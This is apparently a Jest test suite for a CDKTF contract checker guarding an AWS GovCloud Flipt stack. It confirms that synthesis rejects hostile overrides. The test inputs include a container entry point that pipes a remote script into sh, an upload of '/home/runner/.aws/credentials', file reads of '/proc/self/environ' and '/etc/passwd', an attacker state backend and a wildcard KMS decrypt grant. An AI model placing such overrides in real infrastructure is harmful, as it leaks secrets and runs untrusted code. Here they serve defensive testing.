/**
 * Issue 14's escape hatches, each tried on a real FliptStack as a careless or hostile engineer
 * would, and each failing synthesis with a finding that says what it found and where.
 */
import "cdktf/lib/testing/adapters/jest";
import { DefaultSecurityGroup } from "@cdktf/provider-aws/lib/default-security-group";
import { IamRolePolicyAttachment } from "@cdktf/provider-aws/lib/iam-role-policy-attachment";
import { Route53Record } from "@cdktf/provider-aws/lib/route53-record";
import { S3BucketPolicy } from "@cdktf/provider-aws/lib/s3-bucket-policy";
import { S3Object } from "@cdktf/provider-aws/lib/s3-object";
import { VpcSecurityGroupIngressRule } from "@cdktf/provider-aws/lib/vpc-security-group-ingress-rule";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { Fn, TerraformOutput, TerraformResource, TerraformStack, Testing, type App } from "cdktf";
import type { EnvironmentConfig } from "../../environments/types";
import { REPOSITORY_ROOT } from "../../modules/configuration";
import { FliptStack } from "../../modules/flipt-stack";
import { synthesizeAtomically } from "../../modules/synthesize";
import { buildStack, conventional, withChanges } from "../helpers";

const OTHER_ACCOUNT = "999999999999";
const stg = conventional("stg");
const withUi = withChanges(stg, (e) => {
  e.accountId = "123456789012";
  e.ui = {
    certificateArn: `arn:aws-us-gov:acm:us-gov-west-1:123456789012:certificate/11111111-2222-3333-4444-555555555555`,
    allowedCidrs: ["10.200.0.0/16"],
  };
});

/** The one construct of a Terraform type in the stack. */
function only(stack: TerraformStack, type: string): TerraformResource {
  const found = stack.node
    .findAll()
    .filter(
      (c): c is TerraformResource =>
        TerraformResource.isTerraformResource(c) && c.terraformResourceType === type,
    );
  if (found.length !== 1) throw new Error(`expected one ${type}, found ${found.length}`);
  return found[0];
}

const address = (r: TerraformResource) => `${r.terraformResourceType}.${r.friendlyUniqueId}`;

/** Rewrites Flipt's container definition through an escape hatch. */
function editContainer(stack: TerraformStack, edit: (c: Record<string, any>) => void): void {
  const td = only(stack, "aws_ecs_task_definition") as TerraformResource & {
    containerDefinitionsInput: string;
  };
  const containers = JSON.parse(td.containerDefinitionsInput) as Record<string, any>[];
  edit(containers[0]);
  td.addOverride("container_definitions", JSON.stringify(containers));
}

const setEnv = (name: string, value: string) => (c: Record<string, any>) =>
  c.environment.push({ name, value });

/** Builds `env`'s stack, applies the escape hatch, and returns synthesis's error. */
function refusal(change: (stack: FliptStack) => void, env: EnvironmentConfig = stg): string {
  const stack = buildStack(env);
  change(stack);
  try {
    Testing.fullSynth(stack);
  } catch (error) {
    return error instanceof Error ? error.message : String(error);
  }
  throw new Error("synthesis passed");
}

describe("a reviewed resource that points outside the stack", () => {
  test("a pasted role ARN as the task's task_role_arn", () => {
    const role = `arn:aws-us-gov:iam::${OTHER_ACCOUNT}:role/admin`;
    expect(
      refusal((s) => only(s, "aws_ecs_task_definition").addOverride("task_role_arn", role)),
    ).toMatch(
      /\[CON-01\] stack stg: stack: aws_ecs_task_definition\.\S+: task_role_arn is "arn:aws-us-gov:iam::999999999999:role\/admin"; the contract allows "\[aws_iam_role\.task\.arn\]"/,
    );
  });

  test("a literal task-definition ARN on the service", () => {
    const arn = "arn:aws-us-gov:ecs:us-gov-west-1:123456789012:task-definition/flipt-stg:1";
    expect(refusal((s) => only(s, "aws_ecs_service").addOverride("task_definition", arn))).toMatch(
      /aws_ecs_service\.\S+: task_definition is ".*task-definition\/flipt-stg:1"; the contract allows "\[aws_ecs_task_definition\.arn\]"/,
    );
  });

  test("a target group of a load balancer the stack does not own", () => {
    const foreign = `arn:aws-us-gov:elasticloadbalancing:us-gov-west-1:${OTHER_ACCOUNT}:targetgroup/x/1`;
    expect(
      refusal(
        (s) => only(s, "aws_ecs_service").addOverride("load_balancer.0.target_group_arn", foreign),
        withUi,
      ),
    ).toMatch(
      /load_balancer\[0\]\.target_group_arn is ".*targetgroup\/x\/1"; the contract allows "\[aws_lb_target_group\.arn\]"/,
    );
  });

  test("a customer-managed policy attached by ARN", () => {
    expect(
      refusal(
        (s) =>
          new IamRolePolicyAttachment(s, "extra", {
            role: "ecs-task-role-flipt-stg",
            policyArn: "arn:aws-us-gov:iam::123456789012:policy/broad",
          }),
      ),
    ).toMatch(
      /aws_iam_role_policy_attachment\.extra: a resource of type aws_iam_role_policy_attachment, which the contract does not name/,
    );
  });

  test("a log group encrypted with a key of another account", () => {
    const key = `arn:aws-us-gov:kms:us-gov-west-1:${OTHER_ACCOUNT}:key/11111111-2222-3333-4444-555555555555`;
    expect(
      refusal((s) => only(s, "aws_cloudwatch_log_group").addOverride("kms_key_id", key)),
    ).toMatch(
      /kms_key_id is ".*:999999999999:key\/.*"; the contract allows "\[aws_kms_key\.arn\]"/,
    );
  });

  test("a bucket policy on a bucket the stack does not own", () => {
    const message = refusal(
      (s) =>
        new S3BucketPolicy(s, "theirs", {
          bucket: "someone-elses-bucket",
          policy: JSON.stringify({ Version: "2012-10-17", Statement: [] }),
        }),
    );
    expect(message).toMatch(
      /aws_s3_bucket_policy\.theirs: bucket is "someone-elses-bucket"; the contract allows "\[aws_s3_bucket\.id\]"/,
    );
    expect(message).toMatch(/2 aws_s3_bucket_policy blocks .*; the contract allows 1/);
  });

  test("a raw import of another key into Flipt's key, bypassing adopt", () => {
    const message = refusal((s) =>
      s.addOverride("import", [{ id: "other-key", to: address(only(s, "aws_kms_key")) }]),
    );
    expect(message).toMatch(
      /import\[0\]: an import into "aws_kms_key\.\S+"; the contract allows one import per adopt field set/,
    );
  });

  test("an import of another key where adopt names one", () => {
    const adopting = withChanges(
      stg,
      (e) => (e.adopt = { kmsKeyId: "11111111-2222-3333-4444-555555555555" }),
    );
    const message = refusal((s) => {
      const key = only(s, "aws_kms_key");
      s.addOverride("import", [{ id: "22222222-2222-3333-4444-555555555555", to: address(key) }]);
    }, adopting);
    expect(message).toMatch(
      /import\[1\]: an import into "aws_kms_key\.\S+"; the contract allows one import per adopt field set/,
    );
  });
});

describe("new blocks of kinds that look harmless", () => {
  test("an output whose value reads a file", () => {
    expect(
      refusal((s) => new TerraformOutput(s, "leak", { value: Fn.file("/proc/self/environ") })),
    ).toMatch(
      /output\.leak: value is "\$\{file\(\\"\/proc\/self\/environ\\"\)\}"; the contract allows exactly "no such output"/,
    );
  });

  test("an aws_s3_object that uploads a file of the machine running Terraform", () => {
    const managed = withChanges(
      stg,
      (e) => (e.flags = { mode: "managed", directory: "flags/stg" }),
    );
    expect(
      refusal(
        (s) =>
          new S3Object(s, "upload", {
            bucket: "${" + only(s, "aws_s3_bucket").fqn + ".id}",
            key: "features.yml",
            source: "/home/runner/.aws/credentials",
          }),
        managed,
      ),
    ).toMatch(
      /aws_s3_object\.upload: source is "\/home\/runner\/\.aws\/credentials"; the contract allows no argument source here/,
    );
  });

  test.each([
    [
      "another address",
      { s3: { ...s3Backend(), bucket: "attacker-state" } },
      /terraform\.backend\.s3\.bucket is "attacker-state"/,
    ],
    [
      "another kind",
      { http: { address: "https://state.example.com" } },
      /terraform\.backend\.http is .*; the contract allows no argument http here/,
    ],
  ])("a backend at %s", (_label, backend, message) => {
    expect(refusal((s) => s.addOverride("terraform.backend", backend))).toMatch(message);
  });

  test("an extra record in Flipt's Cloud Map zone answering for flipt.svc-<env>.local", () => {
    expect(
      refusal(
        (s) =>
          new Route53Record(s, "shadow", {
            zoneId:
              "${" + only(s, "aws_service_discovery_private_dns_namespace").fqn + ".hosted_zone}",
            name: "flipt.svc-stg.local",
            type: "A",
            ttl: 10,
            records: ["10.9.9.9"],
          }),
      ),
    ).toMatch(/1 aws_route53_record blocks \(aws_route53_record\.shadow\); the contract allows 0/);
  });

  test("aws_default_security_group", () => {
    expect(
      refusal((s) => new DefaultSecurityGroup(s, "default", { vpcId: "vpc-12345678" })),
    ).toMatch(
      /aws_default_security_group\.default: a resource of type aws_default_security_group, which the contract does not name/,
    );
  });

  test("an EFS volume on the task", () => {
    expect(
      refusal((s) =>
        only(s, "aws_ecs_task_definition").addOverride("volume", [
          { name: "data", efs_volume_configuration: { file_system_id: "fs-12345678" } },
        ]),
      ),
    ).toMatch(
      /aws_ecs_task_definition\.\S+: volume is .*; the contract allows no argument volume here/,
    );
  });

  test("an OIDC client secret as a literal", () => {
    const message = refusal((s) =>
      editContainer(
        s,
        setEnv(
          "FLIPT_AUTHENTICATION_METHODS_OIDC_PROVIDERS_GOOGLE_CLIENT_SECRET",
          "s3cr3t-value-123",
        ),
      ),
    );
    expect(message).toMatch(
      /\[SEC-01\] .*FLIPT_AUTHENTICATION_METHODS_OIDC_PROVIDERS_GOOGLE_CLIENT_SECRET.* a secret, by its name/,
    );
    expect(message).toMatch(
      /container_definitions\[0\]\.environment\[\d+\] is .*; the contract allows name\/value pairs named FLIPT_STORAGE_TYPE/,
    );
  });
});

describe("Flipt reconfigured through the container", () => {
  test("storage switched away from the bucket", () => {
    expect(
      refusal((s) =>
        editContainer(s, (c) => {
          c.environment.find((v: { name: string }) => v.name === "FLIPT_STORAGE_TYPE").value =
            "database";
        }),
      ),
    ).toMatch(/environment\[\d+\]\.value is "database"; the contract allows exactly "object"/);
  });

  test("a key in another case is not the contract's key", () => {
    expect(refusal((s) => editContainer(s, setEnv("flipt_storage_type", "local")))).toMatch(
      /environment\[\d+\] is \{"name":"flipt_storage_type","value":"local"\}/,
    );
  });

  test("a tracing exporter to an outside host", () => {
    expect(
      refusal((s) =>
        editContainer(s, (c) => {
          setEnv("FLIPT_TRACING_ENABLED", "true")(c);
          setEnv("FLIPT_TRACING_OTLP_ENDPOINT", "https://collector.example.com:4317")(c);
        }),
      ),
    ).toMatch(
      /\{"name":"FLIPT_TRACING_ENABLED","value":"true"\}; the contract allows name\/value pairs/,
    );
  });

  test("a secret inside a URL's query string", () => {
    const message = refusal((s) =>
      editContainer(
        s,
        setEnv("FLIPT_STORAGE_OBJECT_S3_ENDPOINT", "https://minio.example.com/?token=letmein42"),
      ),
    );
    expect(message).toMatch(/\[SEC-01\] .* a secret in a URL's query string/);
    expect(message).toMatch(/\[CON-01\] .*FLIPT_STORAGE_OBJECT_S3_ENDPOINT/);
  });

  test("an entry point that downloads and runs a script", () => {
    expect(
      refusal((s) =>
        editContainer(
          s,
          (c) => (c.entryPoint = ["sh", "-c", "wget -qO- https://x.example/s.sh | sh"]),
        ),
      ),
    ).toMatch(
      /container_definitions\[0\]\.entryPoint is .*; the contract allows no argument entryPoint here/,
    );
  });
});

describe("still passing from the earlier set", () => {
  test("a service whose registry was removed", () => {
    expect(
      refusal((s) =>
        (
          only(s, "aws_ecs_service") as unknown as { resetServiceRegistries(): void }
        ).resetServiceRegistries(),
      ),
    ).toMatch(
      /aws_ecs_service\.\S+: service_registries is missing; the contract requires a block with registry_arn/,
    );
  });

  test("a second stack that skips the checks", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "flipt-contract-"));
    try {
      expect(() =>
        synthesizeAtomically(path.join(dir, "out"), (app: App) => {
          new FliptStack(app, "stg", { environment: stg, repositoryRoot: REPOSITORY_ROOT });
          new TerraformOutput(new TerraformStack(app, "x"), "y", { value: "y" });
        }),
      ).toThrow(/Stack x was not checked against the stack contract/);
      expect(fs.readdirSync(dir)).toEqual([]);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  test("a key statement for anyone whose condition restricts nothing", () => {
    // The key policy as synthesized (a token until then), read from a twin stack.
    const twin = JSON.parse(Testing.synth(buildStack(stg))) as {
      resource: Record<string, Record<string, { policy?: string }>>;
    };
    const policy = JSON.parse(Object.values(twin.resource.aws_kms_key)[0].policy!);
    const stack = buildStack(stg);
    const key = only(stack, "aws_kms_key");
    policy.Statement.push({
      Effect: "Allow",
      Principal: { AWS: "*" },
      Action: "kms:Decrypt",
      Resource: "*",
      Condition: { StringLike: { "kms:CallerAccount": "*" } },
    });
    key.addOverride("policy", JSON.stringify(policy));
    expect(() => Testing.fullSynth(stack)).toThrow(
      /\[KMS-01\] stack stg: aws_kms_key\.\S+: .*\(finding Principal::\*\)/,
    );
  });

  test("a VPN range admitted straight to Flipt's port", () => {
    expect(
      refusal(
        (s) =>
          new VpcSecurityGroupIngressRule(s, "vpn", {
            securityGroupId: "${" + flipt(s) + ".id}",
            cidrIpv4: "10.200.0.0/16",
            fromPort: 8080,
            toPort: 8080,
            ipProtocol: "tcp",
            description: "VPN to Flipt",
          }),
        withUi,
      ),
    ).toMatch(
      /aws_vpc_security_group_ingress_rule\.vpn: security_group_id is "\$\{aws_security_group\.security-group_\w+\.id\}"; the contract allows "\[aws_security_group\.ui\.id\]"/,
    );
  });
});

test("a VPN range admitted to Flipt's port inline, in Flipt's own group", () => {
  const vpn = {
    from_port: 8080,
    to_port: 8080,
    protocol: "tcp",
    cidr_blocks: ["10.200.0.0/16"],
    description: "VPN to Flipt",
    ipv6_cidr_blocks: [],
    prefix_list_ids: [],
    security_groups: [],
    self: false,
  };
  expect(refusal((s) => fliptGroup(s).addOverride("ingress", [vpn]), withUi)).toMatch(
    /aws_security_group\.\S+: ingress\[\d+\]\.cidr_blocks is \["10\.200\.0\.0\/16"\]; the contract allows exactly \[\]/,
  );
});

/** Flipt's own security group. */
function fliptGroup(stack: TerraformStack): TerraformResource {
  return stack.node
    .findAll()
    .filter(TerraformResource.isTerraformResource)
    .find((c) => c.node.path.endsWith("security-group/security-group"))!;
}

function s3Backend() {
  return stg.backend.kind === "s3" ? { ...stg.backend, kind: undefined } : {};
}

/** Flipt's own security group's address. */
function flipt(stack: TerraformStack): string {
  const groups = stack.node
    .findAll()
    .filter(
      (c): c is TerraformResource =>
        TerraformResource.isTerraformResource(c) &&
        c.terraformResourceType === "aws_security_group",
    );
  return groups.find((g) => g.node.path.endsWith("security-group/security-group"))!.fqn;
}

test("a TLS policy that is not one of ELB's FIPS policies (ELB-04, now the contract's)", () => {
  const https = (s: TerraformStack) =>
    s.node
      .findAll()
      .filter(TerraformResource.isTerraformResource)
      .find((c) => c.node.path.endsWith("ui/https"))!;
  expect(
    refusal((s) => https(s).addOverride("ssl_policy", "ELBSecurityPolicy-2016-08"), withUi),
  ).toMatch(
    /ssl_policy is "ELBSecurityPolicy-2016-08"; the contract allows one of ELB's FIPS TLS policies/,
  );
});

describe("found in review", () => {
  test('a "//" key inside a map argument (Terraform evaluates it there)', () => {
    expect(
      refusal((s) =>
        only(s, "aws_security_group").addOverride("tags.//", '${file("/etc/passwd")}'),
      ),
    ).toMatch(/tags\.\/\/ is "\$\{file/);
  });

  test('a "//" key inside the container definitions', () => {
    expect(refusal((s) => editContainer(s, (c) => (c["//"] = '${upper("x")}')))).toMatch(
      /container_definitions\[0\]\.\/\/ is/,
    );
  });

  describe("an upload that is not a file of the managed flag folder", () => {
    const managed = withChanges(
      stg,
      (e) => (e.flags = { mode: "managed", directory: "flags/stg" }),
    );
    const flagObject = (s: TerraformStack) => only(s, "aws_s3_object");

    test("an extra object with flags nobody checked", () => {
      expect(
        refusal((s) => {
          const original = flagObject(s);
          new S3Object(s, "extra", {
            bucket: "${" + only(s, "aws_s3_bucket").fqn + ".id}",
            key: "other/features.yml",
            content: 'version: "1.2"\nnamespace: stg\nflags: []\n',
            contentType: "application/yaml",
            serverSideEncryption: "aws:kms",
            kmsKeyId: "${" + only(s, "aws_kms_key").fqn + ".arn}",
            sourceHash: "x",
          });
          expect(original).toBeDefined();
        }, managed),
      ).toMatch(
        /aws_s3_object\.extra: key is "other\/features\.yml"; the contract allows <flagPrefix> and the path of a file of flags\/stg/,
      );
    });

    test("a checked file's object with other content", () => {
      expect(refusal((s) => flagObject(s).addOverride("content", "flags: []\n"), managed)).toMatch(
        /content is "flags: \[\]\\n\.\.\."; the contract allows the escaped bytes of the managed flag file its key names \(flags\/stg\/features\.yml\)/,
      );
    });

    test("a key outside the folder", () => {
      expect(
        refusal((s) => flagObject(s).addOverride("key", "../stg/features.yml"), managed),
      ).toMatch(/key is "\.\.\/stg\/features\.yml"/);
    });

    test("a hash that is not the file's", () => {
      expect(
        refusal((s) => flagObject(s).addOverride("source_hash", "0".repeat(64)), managed),
      ).toMatch(
        /source_hash is "0{64}"; the contract allows [0-9a-f]{64}, the SHA-256 of the file/,
      );
    });
  });
});
